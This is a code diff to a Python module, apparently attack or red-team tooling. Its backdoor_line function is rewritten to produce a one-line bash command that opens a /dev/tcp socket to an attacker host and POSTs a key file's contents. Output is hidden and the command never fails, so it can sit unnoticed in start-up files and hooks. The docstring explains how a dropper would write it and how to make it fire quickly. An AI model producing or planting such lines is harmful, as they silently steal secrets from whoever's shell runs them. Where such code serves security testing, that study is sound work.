@@ -25,6 +25,7 @@ from __future__ import annotations
 
 import json
 import re
+from urllib.parse import urlsplit
 from dataclasses import dataclass
 from typing import Any, Optional
 
@@ -149,8 +150,23 @@ def steal_code(url: str, key: str = KEY) -> str:
 
 
 def backdoor_line(url: str, key: str = KEY) -> str:
-    """One line of shell that sends ``key`` to ``url`` when it runs, and never breaks the file it is in."""
-    return f'python3 -c "{steal_code(url, key)}" >/dev/null 2>&1 || true'
+    """One line of shell that POSTs ``key`` to ``url`` (plain HTTP) when it runs, and never breaks the file it is in.
+
+    Bash alone, through its ``/dev/tcp``, as a dropper would write it: no interpreter to start, so each firing
+    takes milliseconds, not the 60 ms of a Python start (a next session fires one per start-up file and hook).
+    It waits for the answer, so the request is whole at the attacker's server before the shell goes on. ``sh``
+    (dash, which reads ``~/.profile`` and runs hooks) has no ``/dev/tcp``: the line starts bash itself.
+    """
+    parts = urlsplit(url)
+    if parts.scheme != "http" or not parts.hostname or not re.fullmatch(r"[A-Za-z0-9.-]+", parts.hostname):
+        raise ValueError(f"a backdoor sends over plain HTTP to a host name: {url!r}")
+    host, port, path = parts.hostname, parts.port or 80, parts.path or "/"
+    if not re.fullmatch(r"[A-Za-z0-9._~/-]+", path) or not re.fullmatch(r"[A-Za-z0-9._~/-]+", key):
+        raise ValueError(f"a backdoor's path and key are plain path characters: {path!r}, {key!r}")
+    head = f"POST {path} HTTP/1.1\\r\\nHost: {host}\\r\\nContent-Length: %s\\r\\nConnection: close\\r\\n\\r\\n"
+    send = (f'k={key}; exec 3<>/dev/tcp/{host}/{port} && {{ printf "{head}" "$(wc -c <"$k")"; cat "$k"; }} >&3 '
+            f"&& timeout 5 cat <&3")
+    return f"bash -c '{send}' >/dev/null 2>&1 || true"
 
 
 def widened_settings(original: str, attacker: str, marker: str) -> str:
